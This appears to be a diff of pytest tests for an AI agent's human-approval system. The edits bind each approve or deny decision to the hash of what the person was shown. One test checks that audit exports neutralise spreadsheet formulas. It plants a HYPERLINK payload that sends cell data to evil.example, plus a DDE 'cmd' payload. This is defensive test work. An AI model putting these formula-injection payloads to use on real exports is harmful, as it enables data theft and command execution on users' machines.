@@ -68,7 +68,7 @@ def broken_link(*args: str) -> str:
 def decided_one(alice, agent, **decision) -> Approval:
     conversation = start(alice, agent, "write hi to a.txt")
     [approval] = pending_approvals(conversation)
-    decide(approval.pk, user=alice, **({"approve": False, "via": "chat", "reason": "no"} | decision))
+    decide(approval.pk, user=alice, shown_hash=approval.shown_hash, **({"approve": False, "via": "chat", "reason": "no"} | decision))
     approval.refresh_from_db()
     return approval
 
@@ -76,8 +76,8 @@ def decided_one(alice, agent, **decision) -> Approval:
 def three_decisions(alice, agent) -> list[Approval]:
     conversation = start(alice, agent, "delete a.txt and b.txt")
     first, second = pending_approvals(conversation)
-    decide(first.pk, user=alice, approve=False, via="chat", reason="keep a")
-    decide(second.pk, user=alice, approve=False, via="chat", reason="keep b")
+    decide(first.pk, user=alice, approve=False, via="chat", shown_hash=first.shown_hash, reason="keep a")
+    decide(second.pk, user=alice, approve=False, via="chat", shown_hash=second.shown_hash, reason="keep b")
     decided_one(alice, agent)
     return list(Approval.objects.order_by("chain_position"))
 
@@ -183,12 +183,14 @@ def test_flush_still_empties_the_database(alice, agent):
 
 def test_every_kind_of_decision_extends_one_intact_chain(alice, bob, agent):
     first, second = pending_approvals(start(alice, agent, "delete a.txt and b.txt"))
-    decide(first.pk, user=alice, approve=True, via="chat")
-    decide(second.pk, user=bob, approve=False, via="dashboard", reason="keep b")
+    decide(first.pk, user=alice, approve=True, via="chat", shown_hash=first.shown_hash)
+    decide(second.pk, user=bob, approve=False, via="dashboard", shown_hash=second.shown_hash, reason="keep b")
     bulk = pending_approvals(start(alice, agent, "delete c.txt and d.txt"))
-    decide_many([a.pk for a in bulk], user=alice, approve=False, via="dashboard", reason="not today")
+    decide_many({a.pk: a.shown_hash for a in bulk}, user=alice, approve=False, via="dashboard", reason="not today")
     [edited] = pending_approvals(start(alice, agent, "write hello to notes.txt"))
-    approve_edited(edited.pk, user=alice, arguments={"path": "other.txt", "content": "hello"}, via="chat")
+    approve_edited(
+        edited.pk, user=alice, arguments={"path": "other.txt", "content": "hello"}, via="chat", shown_hash=edited.shown_hash
+    )
     stopped = start(alice, agent, "delete e.txt and f.txt")
     services.stop_conversation(conversation=stopped, user=alice, via="chat")
     agent.approval_timeout_seconds = 1
@@ -198,7 +200,7 @@ def test_every_kind_of_decision_extends_one_intact_chain(alice, bob, agent):
     [late] = pending_approvals(start(alice, agent, "write two to h.txt"))
     Approval.objects.filter(pk=late.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
     with pytest.raises(AlreadyDecided):  # it expires as the decision comes in
-        decide(late.pk, user=alice, approve=True, via="chat")
+        decide(late.pk, user=alice, approve=True, via="chat", shown_hash=late.shown_hash)
 
     chain = list(Approval.objects.order_by("chain_position"))
     assert not Approval.objects.filter(status="pending").exists() and len(swept) == 1
@@ -290,9 +292,9 @@ def test_deciders_at_once_never_fork_the_chain(alice, bob, agent):
     (a, b), (c, d) = (pending_approvals(conversation) for conversation in conversations[:2])
 
     results = race(
-        lambda: decide(a.pk, user=alice, approve=True, via="chat"),
-        lambda: decide(b.pk, user=bob, approve=False, via="dashboard", reason="no"),
-        lambda: decide_many([c.pk, d.pk], user=bob, approve=False, via="dashboard").decided,
+        lambda: decide(a.pk, user=alice, approve=True, via="chat", shown_hash=a.shown_hash),
+        lambda: decide(b.pk, user=bob, approve=False, via="dashboard", shown_hash=b.shown_hash, reason="no"),
+        lambda: decide_many({c.pk: c.shown_hash, d.pk: d.shown_hash}, user=bob, approve=False, via="dashboard").decided,
         lambda: services.stop_conversation(conversation=conversations[2], user=alice, via="chat"),
     )
 
@@ -310,7 +312,7 @@ def test_a_bulk_decision_costs_the_same_queries_for_any_number_of_approvals(alic
     for approvals in (few, many):
         # The outer transaction holds back what the decision sets off on commit (the loop).
         with transaction.atomic(), CaptureQueriesContext(connection) as queries:
-            decide_many([a.pk for a in approvals], user=alice, approve=False, via="dashboard")
+            decide_many({a.pk: a.shown_hash for a in approvals}, user=alice, approve=False, via="dashboard")
         counts.append(len(queries))
 
     assert counts[0] == counts[1]
@@ -340,7 +342,7 @@ def test_formula_cells_are_neutralised_in_the_export(auditor, alice, agent, star
     [approval] = pending_approvals(conversation)
     payload = f"{start_}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
     Approval.objects.filter(pk=approval.pk).update(reason=payload)  # pending: the policy's text, say
-    decide(approval.pk, user=alice, approve=False, via="chat", reason=f"{start_}cmd|' /C calc'!A0")
+    decide(approval.pk, user=alice, approve=False, via="chat", shown_hash=approval.shown_hash, reason=f"{start_}cmd|' /C calc'!A0")
 
     [row] = exported(auditor)
 
